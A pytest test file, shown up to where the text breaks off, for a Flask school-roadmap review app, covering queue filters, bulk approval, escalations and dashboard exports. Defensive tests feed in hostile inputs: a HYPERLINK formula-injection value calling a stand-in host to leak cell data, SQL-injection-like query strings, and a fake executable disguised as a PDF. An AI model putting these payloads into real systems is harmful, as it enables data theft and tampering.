"""The curator's desk through the Flask test client, on both databases: the queue's filters
and sorts, the bulk confirmation that counts what was never opened, approve-and-next, the
return loop in one step, typed text kept after an error, the in-page viewer, «Мои школы»."""

from __future__ import annotations

import html
import io
import re
from datetime import UTC, date, datetime, timedelta
from urllib.parse import urlencode

import pytest
from sqlalchemy import select, update

from engine.accounts.access import load_actor
from engine.db import unit_of_work
from engine.lifecycle.definition import SubjectKind
from engine.lifecycle.fire import fire
from engine.models import Activity, Document, DocumentKind, Occurrence, Organization
from engine.work.documents import create_document
from engine.work.evidence import attach
from tests.factories import REGISTRY
from tests.webclient import PDF, client_as, first_planned, report, state_of

DOCX = b"PK\x03\x04 not really a docx"


@pytest.fixture
def app(demo, make_web_app):
    return make_web_app(TESTING=True, WTF_CSRF_ENABLED=False, SECRET_KEY="test")


def send_for_review(db, login: str, count: int) -> list[int]:
    """The first `count` planned occurrences of a demo school, started and reported."""
    with unit_of_work(db) as session:
        actor = load_actor(session, login)
        chosen = (
            session.execute(
                select(Occurrence.id)
                .where(Occurrence.assignee_id == actor.organization_id)
                .where(Occurrence.state == REGISTRY.current("activity").definition.initial)
                .order_by(Occurrence.due_on, Occurrence.id)
                .limit(count)
            )
            .scalars()
            .all()
        )
        for occurrence in chosen:
            for trigger in ("start", "report"):
                fire(
                    session,
                    REGISTRY,
                    SubjectKind.OCCURRENCE,
                    occurrence,
                    trigger,
                    actor,
                    report_text="сделано",
                )
    return list(chosen)


def submit_document(db, login: str, title: str) -> int:
    with unit_of_work(db) as session:
        actor = load_actor(session, login)
        document = create_document(
            session, REGISTRY, actor, DocumentKind.SELF_DIAGNOSTIC.value, title
        )
        attach(
            session,
            REGISTRY,
            db_evidence_dir(),
            SubjectKind.DOCUMENT,
            document.id,
            actor,
            filename="анализ.pdf",
            data=PDF,
            max_bytes=10_000_000,
        )
        fire(session, REGISTRY, SubjectKind.DOCUMENT, document.id, "submit", actor)
        return document.id


def db_evidence_dir():
    import os
    from pathlib import Path

    return Path(os.environ["EVIDENCE_DIR"])


def queue_ids(client, **args) -> list[str]:
    page = client.get("/queue", query_string=args)
    assert page.status_code == 200
    return re.findall(r'name="item" value="([a-z]+:\d+)"', page.text)


def school_id(db, login: str) -> int:
    with unit_of_work(db, readonly=True) as session:
        return load_actor(session, login).organization_id


def test_the_queue_filters_by_school_kind_lateness_and_text_and_sorts(app, demo) -> None:
    first = send_for_review(demo, "school1", 3)
    second = send_for_review(demo, "school2", 2)
    document = submit_document(demo, "school2", "Самоанализ школы")
    with unit_of_work(demo) as session:  # the oldest report waited ten days
        session.execute(
            update(Occurrence)
            .where(Occurrence.id == first[0])
            .values(state_changed_at=datetime.now(UTC) - timedelta(days=10))
        )
        title = session.execute(
            select(Activity.title)
            .join(Occurrence, Occurrence.activity_id == Activity.id)
            .where(Occurrence.id == second[1])
        ).scalar_one()
    curator = client_as(app, "curator1")
    everything = queue_ids(curator)
    ours = {f"occurrence:{i}" for i in first + second} | {f"document:{document}"}
    assert ours <= set(everything)
    assert everything[0] == f"occurrence:{first[0]}"  # oldest first
    assert queue_ids(curator, sort="newest")[-1] == f"occurrence:{first[0]}"
    one_school = queue_ids(curator, school=school_id(demo, "school1"))
    assert set(one_school) >= {f"occurrence:{i}" for i in first}
    assert not any(item in one_school for item in (f"occurrence:{i}" for i in second))
    assert queue_ids(curator, kind="document") == [f"document:{document}"]
    assert f"document:{document}" not in queue_ids(curator, kind="occurrence")
    late = queue_ids(curator, late="1")
    assert f"occurrence:{first[0]}" in late and f"occurrence:{first[1]}" not in late
    found = queue_ids(curator, q=title[5:25].upper())
    assert f"occurrence:{second[1]}" in found and f"document:{document}" not in found
    assert queue_ids(curator, q="самоанализ") == [f"document:{document}"]
    assert queue_ids(curator, q="100%_\\") == []
    for odd in ({"school": "99999999999999999999"}, {"kind": "x"}, {"sort": "'; drop"}):
        assert curator.get("/queue", query_string=odd).status_code == 200


def test_the_queue_counts_working_days(app, demo) -> None:
    send_for_review(demo, "school1", 1)
    page = client_as(app, "curator1").get("/queue").text
    assert "раб. дн." in page and "рабочих дней" in page


def test_bulk_approval_asks_first_and_names_what_was_never_opened(app, demo) -> None:
    chosen = send_for_review(demo, "school1", 3)
    curator = client_as(app, "curator1")
    curator.get(f"/occurrences/{chosen[0]}")  # opened one of the three
    items = [f"occurrence:{i}" for i in chosen]
    nothing = curator.post("/queue/approve", data={}, follow_redirects=True)
    assert "Ничего не выбрано" in nothing.text
    asked = curator.post("/queue/approve", data={"item": items})
    assert asked.status_code == 200
    assert re.search(r'id="chosen-count">3<', asked.text)
    assert re.search(r'id="unopened-count">2<', asked.text)
    assert [state_of(demo, i) for i in chosen] == ["reported"] * 3  # nothing approved yet
    done = curator.post(
        "/queue/approve", data={"item": items, "confirmed": "1"}, follow_redirects=True
    )
    assert "Одобрено: 3." in done.text
    assert [state_of(demo, i) for i in chosen] == ["approved"] * 3


def test_a_resent_item_counts_as_unopened_again(app, demo) -> None:
    (occurrence,) = send_for_review(demo, "school1", 1)
    curator, school = client_as(app, "curator1"), client_as(app, "school1")
    curator.get(f"/occurrences/{occurrence}")
    page = curator.get("/queue").text
    row = re.search(rf'value="occurrence:{occurrence}".*?</tr>', page, re.S).group(0)
    assert "не открыто" not in row
    curator.post(f"/occurrences/{occurrence}/return", data={"comment": "Нужна подпись"})
    school.post(
        f"/occurrences/{occurrence}/report",
        data={"first": "rework", "report_text": "подписано"},
    )
    assert state_of(demo, occurrence) == "reported"
    page = curator.get("/queue").text
    row = re.search(rf'value="occurrence:{occurrence}".*?</tr>', page, re.S).group(0)
    assert "не открыто" in row
    assert curator.get(f"/occurrences/{occurrence}").status_code == 200  # opened again
    page = curator.get("/queue").text
    row = re.search(rf'value="occurrence:{occurrence}".*?</tr>', page, re.S).group(0)
    assert "не открыто" not in row


def test_approve_and_next_lands_on_the_next_item_of_the_filter(app, demo) -> None:
    first = send_for_review(demo, "school1", 3)
    other = send_for_review(demo, "school2", 2)
    curator = client_as(app, "curator1")
    curator.get("/queue", query_string={"school": school_id(demo, "school1")})
    answer = curator.post(f"/occurrences/{first[0]}/approve", data={"then": "next"})
    assert answer.status_code == 303
    assert answer.headers["Location"].endswith(f"/occurrences/{first[1]}")
    assert state_of(demo, first[0]) == "approved"
    answer = curator.post(
        f"/occurrences/{first[1]}/return", data={"comment": "Нет подписи", "then": "next"}
    )
    assert answer.headers["Location"].endswith(f"/occurrences/{first[2]}")
    assert state_of(demo, first[1]) == "returned"
    last = curator.post(f"/occurrences/{first[2]}/approve", data={"then": "next"})
    assert "/queue" in last.headers["Location"] and "school=" in last.headers["Location"]
    plain = curator.post(f"/occurrences/{other[0]}/approve")
    assert plain.headers["Location"].endswith(f"/occurrences/{other[0]}")


def test_a_document_is_approved_and_the_next_item_opened(app, demo) -> None:
    document = submit_document(demo, "school2", "Программа развития")
    (occurrence,) = send_for_review(demo, "school2", 1)
    curator = client_as(app, "curator1")
    curator.get("/queue", query_string={"school": school_id(demo, "school2")})
    page = curator.get(f"/documents/{document}").text
    assert 'id="approve-next"' in page
    answer = curator.post(f"/documents/{document}/approve", data={"then": "next"})
    assert answer.headers["Location"].endswith(f"/occurrences/{occurrence}")


def test_the_return_is_a_callout_and_the_fix_is_sent_in_one_step(app, demo) -> None:
    (occurrence,) = send_for_review(demo, "school1", 1)
    client_as(app, "curator1").post(
        f"/occurrences/{occurrence}/return", data={"comment": "Приложите протокол"}
    )
    school = client_as(app, "school1")
    page = school.get(f"/occurrences/{occurrence}").text
    callout = re.search(r'id="returned-with".*?</div>', page, re.S).group(0)
    assert "Приложите протокол" in callout
    assert "Исправить и отправить на проверку" in page
    sent = school.post(
        f"/occurrences/{occurrence}/report",
        data={"first": "rework", "report_text": "Протокол приложен"},
        follow_redirects=True,
    )
    assert state_of(demo, occurrence) == "reported"
    assert "Отправлено на проверку. Решение — до" in sent.text
    assert 'id="returned-with"' not in sent.text


def test_typed_text_survives_an_error(app, demo) -> None:
    occurrence = first_planned(demo, "school1")
    school = client_as(app, "school1")
    school.post(f"/occurrences/{occurrence}/start")
    page = report(school, occurrence, files=[("virus.pdf", b"MZ\x90")], text="Долгий отчёт 42")
    assert page.status_code == 422
    assert "Принимаются только файлы" in page.text
    assert re.search(r'<textarea name="report_text"[^>]*>Долгий отчёт 42</textarea>', page.text)
    assert "файлы выберите ещё раз" in page.text
    assert state_of(demo, occurrence) == "in_progress"


def test_pdfs_and_images_show_in_place_and_nothing_else_does(app, demo) -> None:
    import io

    import docx

    word = io.BytesIO()
    docx.Document().save(word)
    occurrence = first_planned(demo, "school1")
    school = client_as(app, "school1")
    school.post(f"/occurrences/{occurrence}/start")
    report(school, occurrence, files=[("акт.pdf", PDF), ("план.docx", word.getvalue())])
    curator = client_as(app, "curator1")
    page = curator.get(f"/occurrences/{occurrence}").text
    shown_ids = re.findall(r'<iframe src="/evidence/(\d+)/view"', page)
    every = re.findall(r'href="/evidence/(\d+)"', page)
    assert len(shown_ids) == 1 and len(every) == 2
    (evidence,) = shown_ids
    with curator.get(f"/evidence/{evidence}/view") as shown:
        assert shown.status_code == 200 and shown.data == PDF
        assert "attachment" not in shown.headers.get("Content-Disposition", "")
        policy = shown.headers["Content-Security-Policy"]
        assert "frame-ancestors 'self'" in policy and "default-src 'none'" in policy
        assert shown.headers["X-Frame-Options"] == "SAMEORIGIN"
    assert client_as(app, "school2").get(f"/evidence/{evidence}/view").status_code == 404
    (word_id,) = set(every) - {evidence}
    assert curator.get(f"/evidence/{word_id}/view").status_code == 404


def test_my_schools_show_each_schools_progress_and_documents(app, demo) -> None:
    send_for_review(demo, "school1", 2)
    submit_document(demo, "school3", "Анализ результатов")
    page = client_as(app, "curator1").get("/my-schools").text
    rows = re.findall(r"<tr class=\"[a-z]*\">(.*?)</tr>", page, re.S)
    names = [re.search(r">([^<]+)</a>", row).group(1) for row in rows]
    assert names == ["МБОУ Ершичская СШ", "МБОУ Поселковская СШ", "МБОУ Руссковская СШ"]
    with unit_of_work(demo, readonly=True) as session:
        reported = session.execute(
            select(Occurrence.id).where(
                Occurrence.assignee_id == school_id(demo, "school1"),
                Occurrence.state == "reported",
            )
        ).all()
        documents = session.execute(
            select(Document.id).where(Document.school_id == school_id(demo, "school3"))
        ).all()
    first = rows[0]
    assert re.search(rf">{len(reported)}</a>", first)
    assert f"1 {'на проверке'}" in rows[1] and f"из {len(documents)}" in rows[1]
    assert client_as(app, "school1").get("/my-schools").status_code in (200, 403)


def test_the_task_list_says_what_to_do_next(app, demo) -> None:
    page = client_as(app, "school1").get("/tasks").text
    assert 'class="next-step"' in page and "Начать работу →" in page
    assert "Отменить мероприятие" not in page


def test_cancelling_is_named_for_what_it_does_and_asks_first(app, demo) -> None:
    occurrence = first_planned(demo, "school1")
    page = client_as(app, "coordinator").get(f"/occurrences/{occurrence}").text
    button = re.search(r"<button[^>]*data-confirm=\"[^\"]+\"[^>]*>([^<]+)</button>", page)
    assert button and button.group(1) == "Отменить мероприятие"


def test_each_answer_says_what_happens_next(app, demo) -> None:
    occurrence = first_planned(demo, "school1")
    school = client_as(app, "school1")
    started = school.post(f"/occurrences/{occurrence}/start", follow_redirects=True).text
    assert "«В работе»" in started and "отправьте отчёт" in started
    report(school, occurrence)
    page = school.get(f"/occurrences/{occurrence}").text
    assert "Для вас действий нет" not in page and "о решении придёт уведомление" in page
    curator = client_as(app, "curator1")
    approved = curator.post(f"/occurrences/{occurrence}/approve", follow_redirects=True).text
    assert "Одобрено. Школа получит уведомление." in approved
    with unit_of_work(demo, readonly=True) as session:
        assert session.get(Organization, school_id(demo, "school1")) is not None


# --- the escalation board ----------------------------------------------------------------


def board_rows(client, **args) -> list[str]:
    page = client.get("/escalations", query_string=args)
    assert page.status_code == 200
    return re.findall(r'<td class="card-title"><a href="(/[a-z]+/\d+)"', page.text)


def test_the_board_shows_document_escalations_filters_and_acknowledges_in_bulk(app, demo) -> None:
    from engine.escalation.sweep import sweep
    from engine.models import Escalation, EscalationKind
    from tests.factories import POLICIES

    document = submit_document(demo, "school1", "Самодиагностика")
    with unit_of_work(demo) as session:  # sent long ago: its review is overdue
        session.execute(
            update(Document)
            .where(Document.id == document)
            .values(state_changed_at=datetime.now(UTC) - timedelta(days=30))
        )
    sweep(demo, POLICIES, datetime.now(UTC))
    coordinator = client_as(app, "coordinator")
    everything = board_rows(coordinator, sort="newest")  # raised last by the sweep
    assert everything[0] == f"/documents/{document}"
    assert board_rows(coordinator, subject="document") == [f"/documents/{document}"]
    assert f"/documents/{document}" not in board_rows(coordinator, kind="overdue")
    assert all(row.startswith("/occurrences/") for row in board_rows(coordinator, level="3"))
    for odd in ({"level": "9"}, {"subject": "x"}, {"sort": "x"}, {"view": "x"}, {"page": "0"}):
        assert coordinator.get("/escalations", query_string=odd).status_code == 200
    with unit_of_work(demo, readonly=True) as session:
        ids = (
            session.execute(
                select(Escalation.id)
                .where(Escalation.acknowledged_at.is_(None))
                .where(Escalation.kind != EscalationKind.REMINDER)
                .order_by(Escalation.id)
                .limit(3)
            )
            .scalars()
            .all()
        )
        (document_escalation,) = (
            session.execute(select(Escalation.id).where(Escalation.document_id == document))
            .scalars()
            .all()
        )
    chosen = [*ids[:2], document_escalation]
    empty = coordinator.post(
        "/escalations/acknowledge",
        data={"escalation": chosen, "comment": "  "},
        follow_redirects=True,
    )
    assert "Принято к сведению" not in empty.text
    done = coordinator.post(
        "/escalations/acknowledge",
        data={"escalation": chosen, "comment": "Звонили директору"},
        follow_redirects=True,
    )
    assert "Принято к сведению: 3." in done.text
    assert f"/documents/{document}" not in board_rows(coordinator, sort="newest")
    dealt = coordinator.get("/escalations", query_string={"view": "done"}).text
    assert f"/documents/{document}" in dealt and "Звонили директору" in dealt
    history = client_as(app, "school1").get(f"/documents/{document}").text
    assert "эскалация принята к сведению" in history and "срок проверки, уровень 1" in history
    again = coordinator.post(
        "/escalations/acknowledge", data={"escalation": chosen, "comment": "ещё раз"}
    )
    assert again.status_code == 303
    assert client_as(app, "school1").get("/escalations").status_code == 403


def test_only_the_documents_coordinators_acknowledge_its_escalation(app, demo) -> None:
    from engine.errors import PermissionDeniedError
    from engine.escalation.board import acknowledge
    from engine.escalation.sweep import sweep
    from engine.models import Escalation
    from tests.factories import POLICIES

    document = submit_document(demo, "school1", "Самодиагностика")
    with unit_of_work(demo) as session:
        session.execute(
            update(Document)
            .where(Document.id == document)
            .values(state_changed_at=datetime.now(UTC) - timedelta(days=30))
        )
    sweep(demo, POLICIES, datetime.now(UTC))
    with unit_of_work(demo) as session:
        escalation = session.execute(
            select(Escalation.id).where(Escalation.document_id == document)
        ).scalar_one()
        with pytest.raises(PermissionDeniedError):
            acknowledge(session, load_actor(session, "curator1"), escalation, "нет")


# --- the inbox -----------------------------------------------------------------------------


def notice_line(page: str, text: str) -> str:
    found = [li for li in re.findall(r'<li class="notice.*?</li>', page, re.S) if text in li]
    assert found, text
    return found[0]


def test_the_inbox_is_one_line_per_notice_with_the_state_it_left(app, demo) -> None:
    (occurrence,) = send_for_review(demo, "school1", 1)
    client_as(app, "curator1").post(
        f"/occurrences/{occurrence}/return", data={"comment": "Нужна подпись"}
    )
    school = client_as(app, "school1")
    school.post(f"/occurrences/{occurrence}/report", data={"first": "rework", "report_text": "ок"})
    page = school.get("/inbox").text
    assert "Сегодня" in page and "Здравствуйте" not in page and "http://" not in page
    line = notice_line(page, "возвращено на доработку")
    assert "стало: На доработке" in line  # the state then, though it is «На проверке» now
    assert "новое" in line
    notice = re.search(r'href="/inbox/(\d+)"', line).group(1)
    assert client_as(app, "school2").get(f"/inbox/{notice}").status_code == 404
    opened = school.get(f"/inbox/{notice}")
    assert opened.status_code == 303 and opened.headers["Location"] == f"/occurrences/{occurrence}"
    assert "новое" not in notice_line(school.get("/inbox").text, "возвращено на доработку")


def test_the_mail_keeps_its_fuller_text(app, demo) -> None:
    from engine.models import Notification, User
    from engine.notices.inbox import render

    (occurrence,) = send_for_review(demo, "school1", 1)
    client_as(app, "curator1").post(
        f"/occurrences/{occurrence}/return", data={"comment": "Нужна подпись"}
    )
    with unit_of_work(demo, readonly=True) as session:
        school = session.execute(select(User).where(User.login == "school1")).scalar_one()
        ids = session.execute(
            select(Notification.id).where(Notification.user_id == school.id)
        ).scalars()
        (message,) = [
            m
            for m in render(session, REGISTRY, ids, "https://roadmap.example")
            if "возвращено" in m.summary
        ]
    assert message.body.startswith(f"Здравствуйте, {school.full_name}!")
    assert "Комментарий: Нужна подпись" in message.body
    assert f"Открыть: https://roadmap.example/occurrences/{occurrence}" in message.body
    assert "Состояние: На доработке" in message.body
    assert message.path == f"/occurrences/{occurrence}"


# --- the dashboard against the lists ---------------------------------------------------------

SECOND_ROADMAP = """# План мероприятий по повышению качества образования

| № | Мероприятие | Сроки | Ответственные |
|---|---|---|---|
| 1. | Анализ результатов | | |
| 1.1 | Анализ ВПР по школам | ежеквартально | Руководители ОО |
| 1.2 | Совещание с директорами | до 1 октября 2023 | Отдел образования |
"""


@pytest.fixture
def two_roadmaps(demo):
    """The demo, a second roadmap of its municipality, and escalations of both kinds."""
    from engine.deadlines.parser import Period
    from engine.escalation.sweep import sweep
    from engine.importing.apply import import_roadmap
    from engine.importing.sources import read_text
    from engine.importing.structure import recover
    from engine.models import Roadmap
    from tests.factories import POLICIES

    with unit_of_work(demo) as session:
        municipality = session.execute(
            select(Organization).where(Organization.name == "Ершичский район")
        ).scalar_one()
        first = session.execute(select(Roadmap)).scalars().first()
        period = Period(first.period_start, first.period_end)
        draft = recover(read_text(SECOND_ROADMAP), "plan.md", period)
        import_roadmap(session, REGISTRY, draft, municipality)
    (occurrence,) = send_for_review(demo, "school2", 1)
    document = submit_document(demo, "school3", "Программа")
    long_ago = datetime.now(UTC) - timedelta(days=30)
    with unit_of_work(demo) as session:
        session.execute(
            update(Occurrence).where(Occurrence.id == occurrence).values(state_changed_at=long_ago)
        )
        session.execute(
            update(Document).where(Document.id == document).values(state_changed_at=long_ago)
        )
    with unit_of_work(demo) as session:  # and one cancelled, which no figure counts
        cancelled = first_planned(demo, "school1")
        fire(
            session,
            REGISTRY,
            SubjectKind.OCCURRENCE,
            cancelled,
            "cancel",
            load_actor(session, "coordinator"),
            comment="не проводится",
        )
    sweep(demo, POLICIES, datetime.now(UTC))
    return demo


def figures(page: str) -> dict[str, tuple[int, str]]:
    """The dashboard's figures: id → (number, the link it opens)."""
    found = re.findall(
        r'<a class="kpi[^"]*" href="([^"]+)"><span id="([a-z-]+)">(\d+)%?</span>', page
    )
    return {name: (int(number), href.replace("&amp;", "&")) for href, name, number in found}


def listed(client, href: str) -> int:
    page = client.get(href).text
    if href.startswith("/escalations"):
        return int(re.search(r'id="board-count">(\d+)<', page).group(1))
    return int(re.search(r"Всего: <strong>(\d+)</strong>", page).group(1))


def tally_now(app, db) -> None:
    """Build the progress tally as of the product's today, so the dashboards read it."""
    from zoneinfo import ZoneInfo

    from engine.readmodels.tally import refresh

    zone = app.config["ROADMAP_SETTINGS"].timezone
    with unit_of_work(db) as session:
        assert refresh(session, datetime.now(ZoneInfo(zone)).date(), zone)


@pytest.mark.parametrize("tallied", [False, True], ids=["occurrences", "tally"])
@pytest.mark.parametrize("who", ["coordinator", "regional"])
def test_every_figure_of_the_dashboard_is_the_count_of_its_list(
    app, two_roadmaps, who, tallied
) -> None:
    from engine.models import Roadmap

    if tallied:
        tally_now(app, two_roadmaps)
    client = client_as(app, who)
    with unit_of_work(two_roadmaps, readonly=True) as session:
        roadmaps = session.execute(select(Roadmap.id).order_by(Roadmap.id)).scalars().all()
    assert len(roadmaps) >= 2
    narrowings = [
        {},
        *({"roadmap": r} for r in roadmaps),
        {"from": "2023-10-01", "to": "2024-03-31"},
    ]
    for narrow in narrowings:
        page = client.get("/dashboard", query_string=narrow)
        assert page.status_code == 200
        shown = figures(page.text)
        assert {
            "total",
            "approved-total",
            "review-total",
            "overdue-total",
            "escalated-total",
        } <= set(shown)
        for name, (number, href) in shown.items():
            if name == "due-percent":
                continue
            assert listed(client, href) == number, (who, narrow, name, href)
        rows = re.findall(
            r"<tr class=\"(?:overdue)?\">\s*<td class=\"card-title\">.*?</tr>", page.text, re.S
        )
        totals = [int(re.search(r'data-label="Задач">(\d+)<', row).group(1)) for row in rows]
        assert sum(totals) == shown["total"][0], (who, narrow)
    with_roadmaps = [
        figures(client.get("/dashboard", query_string={"roadmap": r}).text) for r in roadmaps
    ]
    assert (
        sum(f["total"][0] for f in with_roadmaps)
        == figures(client.get("/dashboard").text)["total"][0]
    )


def test_the_region_opens_a_municipality_into_its_schools(app, two_roadmaps) -> None:
    regional = client_as(app, "regional")
    page = regional.get("/dashboard").text
    assert 'id="municipalities"' in page
    link = re.search(r'href="(/dashboard\?municipality=\d+)">Ершичский район<', page).group(1)
    schools = regional.get(link).text
    assert 'id="schools"' in schools and "МБОУ Ершичская СШ" in schools
    assert "Все муниципалитеты" in schools


# --- the dashboard's table: sorted as asked, exported as shown --------------------------------

ROW = re.compile(r'<tr class="(?:overdue)?">\s*<td class="card-title">(.*?)</td>(.*?)</tr>', re.S)


def table(page: str) -> list[tuple[str, int, int, int, int, int, int]]:
    """The dashboard's table: (name, tasks, approved, due, approved of due, under review,
    overdue) per row, in the page's order."""
    rows = []
    for title, cells in ROW.findall(page):
        name = html.unescape(re.sub(r"<[^>]+>", "", title)).strip()
        done_due, due = map(int, re.search(r"\((\d+) из (\d+)\)", cells).groups())
        rows.append(
            (
                name,
                int(re.search(r'data-label="Задач">(\d+)<', cells).group(1)),
                int(re.search(r"% \((\d+)\)</td>", cells).group(1)),
                due,
                done_due,
                int(re.search(r'data-label="На проверке">(\d+)<', cells).group(1)),
                int(re.search(r'data-label="Просрочено"[^>]*>(\d+)<', cells).group(1)),
            )
        )
    return rows


def test_the_dashboard_table_sorts_by_a_column_either_way(app, two_roadmaps) -> None:
    client = client_as(app, "coordinator")
    by_name = table(client.get("/dashboard").text)
    assert by_name[0][0] == "Муниципалитет (Ершичский район)"  # its own work first
    schools = [row[0] for row in by_name[1:]]
    assert len(set(row[6] for row in by_name)) > 1, "the data set has different overdue counts"
    worst = client.get("/dashboard", query_string={"sort": "overdue", "dir": "desc"}).text
    rows = table(worst)
    assert sorted(rows) == sorted(by_name) and rows != by_name
    assert [row[6] for row in rows] == sorted((row[6] for row in rows), reverse=True)
    # the filter's own order fields (what a phone, which shows no table header, uses) say so
    assert '<option value="overdue" selected>' in worst
    assert '<option value="desc" selected>' in worst
    header = re.search(
        r'<th aria-sort="descending"><a class="sort" href="([^"]+)">Просрочено', worst
    )
    assert header and "dir=asc" in header.group(1)  # pressed again, it turns
    best = table(client.get(html.unescape(header.group(1))).text)
    assert [row[6] for row in best] == sorted(row[6] for row in best)
    names = table(client.get("/dashboard", query_string={"sort": "name", "dir": "desc"}).text)
    assert [row[0] for row in names[1:]] == schools[::-1]
    due = table(client.get("/dashboard", query_string={"sort": "percent_due"}).text)
    shares = [done_due / due if due else 0 for _, _, _, due, done_due, _, _ in due]
    assert shares == sorted(shares)


def test_the_dashboard_exports_its_table_as_shown(app, two_roadmaps) -> None:
    import openpyxl

    from engine.cells import from_text
    from engine.models import Roadmap

    hostile = '=HYPERLINK("http://example.invalid/?d="&A1,"x")'
    with unit_of_work(two_roadmaps) as session:
        school = session.execute(
            select(Organization).where(Organization.name == "МБОУ Ершичская СШ")
        ).scalar_one()
        school.name = hostile
        roadmap = session.execute(select(Roadmap).order_by(Roadmap.id)).scalars().first()
        roadmap_id, roadmap_title = roadmap.id, roadmap.title
    client = client_as(app, "coordinator")
    args = {"roadmap": roadmap_id, "sort": "overdue", "dir": "desc"}
    page = client.get("/dashboard", query_string=args).text
    link = html.unescape(re.search(r'href="([^"]+)" id="export-table"', page).group(1))
    assert link.startswith("/dashboard/export.xlsx?") and "sort=overdue" in link
    response = client.get(link)
    assert response.status_code == 200 and "attachment" in response.headers["Content-Disposition"]
    sheet = openpyxl.load_workbook(io.BytesIO(response.data)).active
    assert roadmap_title[:40] in sheet["A1"].value and "Ершичский район" in sheet["A1"].value
    assert [c.value for c in sheet[4]][:2] == ["Школа", "Задач"]
    *body, total = list(sheet.iter_rows(min_row=5, values_only=True))
    shown = table(page)
    assert [(from_text(r[0]), r[1], r[2], r[4], r[5], r[7], r[8]) for r in body] == shown
    assert hostile in [row[0] for row in shown]
    cell = next(row[0] for row in sheet.iter_rows(min_row=5) if hostile in row[0].value)
    assert cell.data_type == "s" and cell.value == "'" + hostile  # text, never a formula
    kpis = figures(page)
    assert total[:3] == ("Итого", kpis["total"][0], kpis["approved-total"][0])
    assert total[7:] == (kpis["review-total"][0], kpis["overdue-total"][0])
    assert total[1] == sum(r[1] for r in body) and total[8] == sum(r[8] for r in body)
    assert sheet.auto_filter.ref == f"A4:I{sheet.max_row - 1}" and sheet.freeze_panes == "B5"
    assert int(sheet.page_setup.paperSize) == int(sheet.PAPERSIZE_A4)
    assert sheet.print_title_rows.replace("$", "") == "4:4"  # the header on every page


def test_the_regional_export_lists_municipalities(app, two_roadmaps) -> None:
    import openpyxl

    client = client_as(app, "regional")
    page = client.get("/dashboard").text
    response = client.get("/dashboard/export.xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(response.data)).active
    assert sheet["A4"].value == "Муниципалитет"
    names = [row[0] for row in sheet.iter_rows(min_row=5, values_only=True)]
    assert names == [row[0] for row in table(page)] + ["Итого"]
    assert "Ершичский район" in names


def neighbour(session, name: str) -> tuple[Organization, int]:  # type: ignore[no-untyped-def]
    """A new municipality of the demo's region, and the id of Ершичский район beside it."""
    from engine.models import OrganizationKind

    home = session.execute(
        select(Organization).where(Organization.name == "Ершичский район")
    ).scalar_one()
    made = Organization(name=name, kind=OrganizationKind.MUNICIPALITY, parent_id=home.parent_id)
    session.add(made)
    session.flush()
    return made, home.id


def test_the_dashboard_names_nothing_foreign_and_refuses_junk_without_a_500(
    app, two_roadmaps
) -> None:
    from engine.deadlines.parser import Period
    from engine.importing.apply import import_roadmap
    from engine.importing.sources import read_text
    from engine.importing.structure import recover
    from engine.models import Roadmap

    with unit_of_work(two_roadmaps) as session:
        foreign, _ = neighbour(session, "Чужой район")
        first = session.execute(select(Roadmap)).scalars().first()
        text = SECOND_ROADMAP.replace("План мероприятий", "Чужая дорожная карта")
        draft = recover(read_text(text), "plan.md", Period(first.period_start, first.period_end))
        roadmap = import_roadmap(session, REGISTRY, draft, foreign)
        foreign_ids = {"municipality": foreign.id, "roadmap": roadmap.roadmap_id}
    client = client_as(app, "coordinator")
    for path in ("/dashboard", "/dashboard/export.xlsx"):
        response = client.get(path, query_string=foreign_ids)
        assert response.status_code in (200, 403, 404), path
        text = response.data.decode("utf-8", "replace") if path == "/dashboard" else ""
        if path != "/dashboard" and response.status_code == 200:
            import openpyxl

            text = str(openpyxl.load_workbook(io.BytesIO(response.data)).active["A1"].value)
        assert "Чужой" not in text and "Чужая" not in text, path
    junk = [
        {"sort": "__class__", "dir": "sideways"},
        {"sort": "overdue; drop table organization", "dir": "desc"},
        {"municipality": "99999999999999999999", "roadmap": "abc"},
        {"from": "2024-13-45", "to": "вчера"},
        {"sort": ["total", "name"], "page": "-1"},
    ]
    for args in junk:
        for path in ("/dashboard", "/dashboard/export.xlsx"):
            response = client.get(path, query_string=args)
            assert response.status_code == 200, (path, args)  # what is unreadable is left out
    by_junk = table(client.get("/dashboard", query_string=junk[0]).text)
    assert by_junk == table(client.get("/dashboard").text)  # by name, as if not asked


def test_the_board_narrows_to_a_roadmap_a_period_and_a_municipality(app, two_roadmaps) -> None:
    from engine.models import Roadmap

    with unit_of_work(two_roadmaps) as session:
        roadmaps = session.execute(select(Roadmap.id)).scalars().all()
        empty, home_id = neighbour(session, "Пустой район")
        empty_id = empty.id
        escalated_due = sorted(
            session.execute(
                select(Occurrence.due_on).where(Occurrence.escalation_level > 0)
            ).scalars()
        )
    client = client_as(app, "regional")

    def count(**args: object) -> int:
        return listed(client, "/escalations?" + urlencode(args))

    everything, documents = count(), count(subject="document")
    per_roadmap = [count(roadmap=r) for r in roadmaps]
    assert documents > 0 and max(per_roadmap) > 0
    assert sum(per_roadmap) + documents == everything  # a roadmap leaves the documents out
    busiest = roadmaps[per_roadmap.index(max(per_roadmap))]
    page = client.get("/escalations", query_string={"roadmap": busiest}).text
    assert "/documents/" not in page and "Только задачи" in page
    shown = {int(i) for i in re.findall(r'href="/occurrences/(\d+)"', page)}
    with unit_of_work(two_roadmaps, readonly=True) as session:
        of = set(
            session.execute(
                select(Activity.roadmap_id)
                .join(Occurrence, Occurrence.activity_id == Activity.id)
                .where(Occurrence.id.in_(shown))
            ).scalars()
        )
    assert shown and of == {busiest}
    middle = escalated_due[len(escalated_due) // 2]
    before, after = (
        count(to=middle.isoformat()),
        count(**{"from": (middle + timedelta(1)).isoformat()}),
    )
    assert before > 0 and after > 0 and before + after == everything - documents
    assert count(municipality=home_id) == everything and count(municipality=empty_id) == 0
    # the dashboard's figure is the board's, narrowed the same way
    narrowed = client.get("/dashboard", query_string={"municipality": home_id, "roadmap": busiest})
    escalated, href = figures(narrowed.text)["escalated-total"]
    assert escalated == max(per_roadmap) and listed(client, href) == escalated


@pytest.mark.parametrize("tallied", [False, True], ids=["occurrences", "tally"])
@pytest.mark.parametrize("login", ["coordinator", "regional"])
def test_the_rows_of_the_dashboard_add_up_to_the_work_of_its_lists(
    app, two_roadmaps, login, tallied
) -> None:
    """The dashboard's figures are the sum of its table's rows; each occurrence the list
    counts is in exactly one row, whichever way the rows are grouped."""
    from engine.models import Roadmap
    from engine.readmodels.progress import Totals, progress_by, work_totals
    from engine.readmodels.tally import refresh
    from engine.readmodels.worklist import WorkFilter

    product = app.extensions["roadmap"]
    day = datetime.now(UTC).date()
    if tallied:
